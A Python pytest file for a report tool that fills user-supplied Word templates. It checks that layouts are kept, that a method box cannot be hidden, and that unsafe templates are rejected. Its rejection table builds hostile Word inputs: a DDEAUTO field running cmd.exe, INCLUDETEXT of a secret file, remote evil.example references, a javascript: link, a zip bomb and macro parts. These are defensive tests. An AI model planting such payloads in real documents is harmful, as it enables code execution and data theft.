"""Word templates of a user: kept as they are, told in words where they cannot be used, never without the method box."""

from __future__ import annotations

import dataclasses
import io
import random
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.enum.section import WD_ORIENT
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Cm, Pt, RGBColor
from lxml import etree

from dateline.errors import BadInput
from dateline.exports.documents import METHOD_TITLE, Setup, render, starting_templates
from dateline.exports.word_templates import NAME
from dateline.model.document import Chart, Document, Map, plain_words
from sample_document import document

DESK = "http://127.0.0.1:8321"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
Change = Callable[[Any], object]


def told() -> Document:
    """The document without pictures, which take a second each."""
    whole = document("")
    return dataclasses.replace(whole, blocks=tuple(one for one in whole.blocks if not isinstance(one, (Chart, Map))))


def shipped() -> bytes:
    return starting_templates()[NAME]


def changed(change: Change | None = None, book: Any = None) -> bytes:
    """A Word file, by default the template that comes along, changed in Word."""
    opened = docx.Document(io.BytesIO(shipped())) if book is None else book
    if change:
        change(opened)
    out = io.BytesIO()
    opened.save(out)
    return out.getvalue()


def zipped(parts: dict[str, bytes], body: bytes | None = None) -> bytes:
    """A Word file with these parts in the place of its own."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body or shipped())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, part in parts.items():
            new.writestr(name, part)
    return out.getvalue()


def part(name: str, body: bytes | None = None) -> bytes:
    with zipfile.ZipFile(io.BytesIO(body or shipped())) as parts:
        return parts.read(name)


@pytest.fixture
def written(tmp_path: Path) -> Callable[[bytes], Any]:
    """The document written with a template."""

    def write(template: bytes) -> Any:
        (tmp_path / NAME).write_bytes(template)
        return docx.Document(io.BytesIO(render(told(), "docx", Setup(desk=DESK, templates=tmp_path))))

    return write


Written = Callable[[bytes], Any]


def lines(book: Any) -> list[str]:
    return [line.text for line in book.paragraphs if line.text.strip()]


def method_of(book: Any) -> list[Any]:
    """The paragraphs of the last section."""
    children = list(book.element.body)
    breaks = [at for at, one in enumerate(children) if one.tag == f"{W}p" and one.find(f".//{W}sectPr") is not None]
    return [one for one in children[breaks[-1] + 1 :] if one.tag == f"{W}p"]


def assert_method(book: Any) -> None:
    """The method box stands alone in the last section, in styles of its own, on a page that it can be read on."""
    found = method_of(book)
    texts = ["".join(text.text or "" for text in line.iter(f"{W}t")) for line in found]
    assert texts == [METHOD_TITLE, *(f"• {plain_words(line)}" for line in told().method)]
    for line in found:
        style = book.styles.element.get_by_id(line.pPr.pStyle.val)
        assert style.name_val.startswith("Dateline Method")
        assert style.find(f"{W}basedOn") is None
        marks = {one.tag.removeprefix(W): one.get(f"{W}val") for one in style.rPr}
        assert (marks["vanish"], marks["color"], marks["w"], marks["position"]) == ("0", "000000", "100", "0")
        assert int(marks["sz"]) >= 16
        assert style.pPr.find(f"{W}spacing").get(f"{W}lineRule") == "auto"
        assert style.pPr.find(f"{W}shd").get(f"{W}fill") == "F3F3F3"
        assert all(
            one.tag in {f"{W}u", f"{W}rtl"}
            for run in line.iter(f"{W}r")
            for one in (() if run.rPr is None else run.rPr)
        )
    section = book.sections[-1]
    assert section.page_width - section.left_margin - section.right_margin >= Cm(9)
    assert section.page_height - section.top_margin - section.bottom_margin >= Cm(9)
    assert {one.tag.removeprefix(W) for one in section._sectPr} <= {
        *("headerReference", "footerReference", "pgSz", "pgMar", "type")
    }
    assert section.header.paragraphs[0].text == section.footer.paragraphs[0].text == "TLP:AMBER"


def test_the_shipped_template_gives_the_document_with_the_method_on_a_last_page(written: Written) -> None:
    book = written(shipped())
    assert_method(book)
    found = lines(book)
    assert found[0] == "Weekly "
    own = docx.Document(io.BytesIO(render(told(), "docx", Setup(desk=DESK))))
    assert found == lines(own), "the same words as without a template of the user"
    assert len(own.sections) == 1, "where the method box follows on the last page"
    assert own.paragraphs[-1].style is not None
    assert own.paragraphs[-1].style.name == "Dateline Method"


def test_a_letterhead_styles_and_paper_are_kept(written: Written) -> None:
    picture = render_logo()

    def house(book: Any) -> None:
        book.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(picture), width=Cm(3))
        book.sections[0].page_width, book.sections[0].page_height = Cm(21.59), Cm(27.94)
        book.styles["Heading 1"].font.color.rgb = RGBColor(0, 0x5A, 0x9C)
        book.styles["Normal"].font.name = "DejaVu Serif"
        book.core_properties.author = "The House"
        book.add_paragraph("With kind regards")

    book = written(changed(house))
    assert_method(book)
    first = book.sections[0]
    assert (first.page_width, first.page_height) == (Cm(21.59), Cm(27.94))
    assert first.header._element.findall(f".//{qn('pic:pic')}")
    assert "TLP:AMBER" in first.header.paragraphs[0].text
    assert (book.styles["Normal"].font.name, book.core_properties.author) == ("DejaVu Serif", "The House")
    assert book.styles["Heading 1"].font.color.rgb == RGBColor(0, 0x5A, 0x9C)
    found = lines(book)
    assert found.index("With kind regards") > found.index("Records behind the figures")
    assert not book.sections[-1].header._element.findall(f".//{qn('pic:pic')}"), "the last page is ours"


def render_logo() -> bytes:
    whole = part("docProps/thumbnail.jpeg")
    assert whole.startswith(b"\xff\xd8")
    return whole


def test_names_are_found_however_word_cuts_them(written: Written) -> None:
    def cut(book: Any) -> None:
        line = book.add_paragraph()
        for piece in ("of {", "{ sub", "title }", "}, {{ma", "rking}} {{ produced", " }}!"):
            line.add_run(piece).bold = piece.startswith("{ sub")

    found = next(line for line in written(changed(cut)).paragraphs if line.text.startswith("of "))
    assert found.text == "of 23 to 29 November 2026 , TLP:AMBER 2026-11-30 06:00 UTC!"
    assert [run.text for run in found.runs if run.bold] == [""], "a name stands where it begins"


def test_a_name_that_a_document_brings_is_no_name(tmp_path: Path) -> None:
    (tmp_path / NAME).write_bytes(shipped())
    evil = dataclasses.replace(told(), title="{{ document }} {{ marking }}", subtitle="{{ nothing }}")
    book = docx.Document(io.BytesIO(render(evil, "docx", Setup(desk=DESK, templates=tmp_path))))
    assert lines(book)[0] == "{{ document }} {{ marking }}"
    assert "{{ nothing }}" in lines(book)[1]
    assert_method(book)


def test_without_a_place_the_document_stands_behind_the_text_with_title_and_period(written: Written) -> None:
    letter = docx.Document()
    letter.add_paragraph("Dear colleagues")
    found = lines(written(changed(book=letter)))
    about = "TLP:AMBER  23 to 29 November 2026   ·  made 2026-11-30 06:00 UTC"
    assert found[:3] == ["Dear colleagues", "Weekly ", about]


def test_the_document_fits_the_section_of_its_place(written: Written) -> None:
    def sections(book: Any) -> None:
        first = book.sections[0]
        first.left_margin = Cm(11)
        book.add_section().left_margin = Cm(2)
        book.sections[-1].orientation, book.sections[-1].page_width = WD_ORIENT.LANDSCAPE, Cm(29.7)
        book.add_paragraph("Behind")

    book = written(changed(sections))
    assert_method(book)
    assert len(book.sections) == 3
    widths = [sum(cell.width for cell in table.rows[0].cells) for table in book.tables]
    assert all(Cm(7.9) < width < Cm(8.1) for width in widths), widths
    assert lines(book).index("Behind") > lines(book).index("Records behind the figures")


def test_a_place_that_ends_a_section_ends_it_still(written: Written) -> None:
    def ends(book: Any) -> None:
        place = book.paragraphs[-1]
        section = book.add_section()
        carrier = place._p.getnext()
        place._p.get_or_add_pPr().append(carrier.find(f".//{W}sectPr"))
        book.element.body.remove(carrier)
        section.page_width = Cm(25)

    book = written(changed(ends))
    assert_method(book)
    assert [round(section.page_width.cm) for section in book.sections][:2] == [21, 25]
    assert "{{" not in " ".join(lines(book))


def test_styles_that_a_template_lacks_are_added(written: Written) -> None:
    names = ("Title", "heading 1", "heading 2", "caption", "List Bullet", "Dateline Lead", "Dateline Table")

    def bare(book: Any) -> None:
        book.paragraphs[0].style = book.styles["Normal"]
        for style in list(book.styles.element):
            name = style.find(f"{W}name")
            if name is not None and name.get(f"{W}val") in names:
                book.styles.element.remove(style)

    book = written(changed(bare))
    assert_method(book)
    assert {line.style.name for line in book.paragraphs} >= {"Heading 1", "Caption", "List Bullet", "Dateline Lead"}
    assert book.styles["Heading 1"].element.find(f".//{W}outlineLvl") is not None
    assert [text for text in lines(book) if text.startswith("• - ")], "bullets that are none of Word's are written"


def test_a_style_of_another_kind_is_told(written: Written) -> None:
    def other(book: Any) -> None:
        book.styles["Caption"].element.set(qn("w:type"), "character")

    with pytest.raises(BadInput, match="style Caption is no style of a paragraph"):
        written(changed(other))


HIDING = parse_xml(f'<w:rPr {nsdecls("w")}><w:vanish/><w:color w:val="FFFFFF"/><w:sz w:val="2"/></w:rPr>')


def white_defaults(book: Any) -> None:
    defaults = book.styles.element.find(f".//{W}rPrDefault")
    defaults.clear()
    defaults.append(HIDING)


def hidden_own_style(book: Any) -> None:
    for name in ("Dateline Method", "Dateline Method Title"):
        style = book.styles[name] if name in book.styles else book.styles.add_style(name, WD_STYLE_TYPE.PARAGRAPH)
        style.font.hidden, style.font.size = True, Pt(1)
    for style in list(book.styles.element):
        if style.get(f"{W}styleId") == "DatelineMethod":
            style.find(f"{W}name").set(f"{W}val", "House")


def tiny_page(book: Any) -> None:
    book.sections[0].page_width, book.sections[0].page_height = Cm(1), Cm(1)
    book.sections[0].left_margin = book.sections[0].right_margin = Cm(0.4)


def many_columns(book: Any) -> None:
    columns = parse_xml(f'<w:cols {nsdecls("w")} w:num="40" w:space="10"/>')
    book.sections[0]._sectPr.append(columns)
    book.sections[0].different_first_page_header_footer = True


def black_page(book: Any) -> None:
    book.element.insert(0, parse_xml(f'<w:background {nsdecls("w")} w:color="000000"/>'))


def high_margins(book: Any) -> None:
    book.sections[0].top_margin, book.sections[0].header_distance = Cm(28), Cm(25)


def negative_margins(book: Any) -> None:
    book.sections[0]._sectPr.find(f"{W}pgMar").set(f"{W}left", "-20000")


@pytest.mark.parametrize(
    "change",
    [white_defaults, hidden_own_style, tiny_page, many_columns, black_page, high_margins, negative_margins],
)
def test_no_template_hides_the_method_box(written: Written, change: Change) -> None:
    assert_method(written(changed(change)))


def test_pages_without_the_marking_get_it(written: Written) -> None:
    def unmarked(book: Any) -> None:
        section = book.sections[0]
        for name in ("header", "footer"):
            getattr(section, name).paragraphs[0].text = "House"
        section.different_first_page_header_footer = True

    first = written(changed(unmarked)).sections[0]
    assert [line.text for line in first.footer.paragraphs] == ["House", "TLP:AMBER"]
    assert "TLP:AMBER" in [line.text for line in first.first_page_footer.paragraphs]
    kept = written(shipped()).sections[0]
    assert [line.text for line in kept.footer.paragraphs] == ["TLP:AMBER"], "once, where a template has it"


@pytest.mark.parametrize(
    ("text", "told_of"),
    [
        ("{{ nothing }}", r"nothing is called \{\{ nothing \}\}"),
        ("{{ document }} and more", "alone in its paragraph"),
        ("{{ document }}", "stands once"),
    ],
)
def test_names_that_cannot_be_filled_are_told(written: Written, text: str, told_of: str) -> None:
    with pytest.raises(BadInput, match=told_of):
        written(changed(lambda book: book.add_paragraph(text)))


def test_the_place_is_no_cell_of_a_table(written: Written) -> None:
    letter = docx.Document()
    letter.add_table(rows=1, cols=1).rows[0].cells[0].text = "{{ document }}"
    with pytest.raises(BadInput, match="alone in its paragraph") as refused:
        written(changed(book=letter))
    assert refused.value.hint == "not in a table or a box"


# What a file must not be.

RELATION = '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" {}/>'


def related(kind: str, target: str, *, of: str = "word/_rels/document.xml.rels", mode: str = "External") -> bytes:
    line = RELATION.format(kind, f'Target="{target}" TargetMode="{mode}"')
    old = part(of) if of != "word/_rels/settings.xml.rels" else EMPTY_RELATIONS
    return zipped({of: old.replace(b"</Relationships>", line.encode() + b"</Relationships>")})


EMPTY_RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
)


def typed(old: str, new: str) -> bytes:
    return zipped({"[Content_Types].xml": part("[Content_Types].xml").replace(old.encode(), new.encode())})


def with_field(*pieces: str) -> bytes:
    def add(book: Any) -> None:
        line = book.add_paragraph()
        for kind in ("begin", *pieces, "end"):
            run = line.add_run()
            if kind in ("begin", "end"):
                run._r.append(parse_xml(f'<w:fldChar {nsdecls("w")} w:fldCharType="{kind}"/>'))
            else:
                run._r.append(parse_xml(f"<w:instrText {nsdecls('w')}>{kind}</w:instrText>"))

    return changed(add)


def with_simple_field(words: str) -> bytes:
    def add(book: Any) -> None:
        book.add_paragraph()._p.append(parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr="{words}"/>'))

    return changed(add)


def noise(size: int) -> bytes:
    return random.Random(1).randbytes(size)


def zipped_only(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as new:
        for name, body in parts.items():
            new.writestr(name, body)
    return out.getvalue()


def doubled(name: str) -> bytes:
    out = io.BytesIO(shipped())
    with zipfile.ZipFile(out, "a") as new, pytest.warns(UserWarning, match="Duplicate"):
        new.writestr(name, part(name))
    return out.getvalue()


PROJECT = "application/vnd.ms-office.vbaProject"
MAIN = "wordprocessingml.document.main+xml"
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "no zip": (lambda: b"%PDF-1.7 no Word document", "no Word document"),
    "nothing": (lambda: b"", "no Word document"),
    "another zip": (lambda: zipped_only({"content.xml": b"<office/>"}), "no Word document"),
    "cut off": (lambda: shipped()[:20_000], "no Word document"),
    "broken": (lambda: zipped({"word/document.xml": b"<w:document"}), "no Word document"),
    "no text": (lambda: zipped({"word/document.xml": b"<a/>"}), "no"),
    "twice": (lambda: doubled("word/document.xml"), "no Word document"),
    "bomb": (lambda: zipped({"word/media/bomb.bin": b"\0" * 120_000_000}), "too large once it is unpacked"),
    "many parts": (lambda: zipped({f"word/media/{at}.bin": b"" for at in range(2_001)}), "too large once"),
    "entities": (
        lambda: zipped({"word/settings.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "declares entities",
    ),
    "macros": (lambda: typed(f"officedocument.{MAIN}", "ms-word.document.macroEnabled.main+xml"), "macros"),
    "a macro part": (
        lambda: typed("</Types>", f'<Default Extension="bin" ContentType="{PROJECT}"/></Types>'),
        "macros",
    ),
    "an object": (lambda: related("oleObject", "embeddings/a.bin", mode="Internal"), "macros or embedded"),
    "a control": (lambda: related("control", "activeX/a.xml", mode="Internal"), "macros or embedded"),
    "another text": (lambda: related("aFChunk", "a.html", mode="Internal"), "macros or embedded"),
    "a picture elsewhere": (lambda: related("image", "https://evil.example/a.png"), "lies elsewhere.*evil.example"),
    "a share": (lambda: related("hyperlink", "file://evil/share"), "lies elsewhere"),
    "a script": (lambda: related("hyperlink", "javascript:alert(1)"), "lies elsewhere"),
    "a frame": (lambda: related("frame", "https://evil.example/"), "lies elsewhere"),
    "data of letters": (lambda: related("mailMergeSource", "file:///c:/people.csv"), "lies elsewhere"),
    "a program": (lambda: with_field("DD", "EAUTO cmd.exe /c calc"), "field DDEAUTO"),
    "a text elsewhere": (lambda: with_simple_field("includetext c:/secret.txt"), "field INCLUDETEXT"),
    "a picture by field": (lambda: with_field(' "INCLUDEPICTURE" https://evil.example/a.png'), "field INCLUDEPICTURE"),
    "a large logo": (lambda: zipped({"word/media/logo.png": noise(50_000_000)}), "larger than 20 MB"),
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_what_acts_or_reaches_elsewhere_is_refused_in_words(written: Written, what: str) -> None:
    make, why = REFUSED[what]
    with pytest.raises(BadInput, match=why) as refused:
        written(make())
    assert NAME in str(refused.value)


def test_the_template_that_a_file_was_made_with_is_forgotten(tmp_path: Path, written: Written) -> None:
    settings = part("word/settings.xml").replace(
        b"<w:zoom",
        f'<w:attachedTemplate {nsdecls("r")} r:id="rId99"/><w:zoom'.encode(),
    )
    body = related("attachedTemplate", "https://evil.example/a.dotm", of="word/_rels/settings.xml.rels")
    body = zipped({"word/settings.xml": settings}, body)
    assert b"attachedTemplate" in part("word/settings.xml", body)
    assert_method(written(body))
    made = render(told(), "docx", Setup(desk=DESK, templates=tmp_path))
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        assert not [name for name in parts.namelist() if re.search(rb"attachedTemplate|evil", parts.read(name))]


def test_links_to_pages_and_plain_fields_are_kept(written: Written) -> None:
    assert_method(written(related("hyperlink", "https://example.org/house")))
    book = written(with_field(" PAGE "))
    assert_method(book)
    assert "PAGE" in etree.tostring(book.element).decode()


def test_whatever_bytes_are_turned_over_there_is_no_traceback(written: Written) -> None:
    random_of, whole = random.Random(7), shipped()
    outcomes = set()
    for _ in range(25):
        parts = {}
        for name in ("word/document.xml", "word/styles.xml", "word/settings.xml", "word/_rels/document.xml.rels"):
            body = bytearray(part(name, whole))
            for _ in range(random_of.choice((0, 0, 1, 3))):
                at = random_of.randrange(len(body) - 8)
                body[at : at + random_of.randrange(8)] = random_of.choice((b"", b"w:p", b'"', b"\xff", b"0", b"-9"))
            parts[name] = bytes(body)
        try:
            assert_method(written(zipped(parts, whole)))
            outcomes.add("written")
        except BadInput as error:
            assert NAME in str(error)
            outcomes.add("refused")
    assert outcomes == {"written", "refused"}
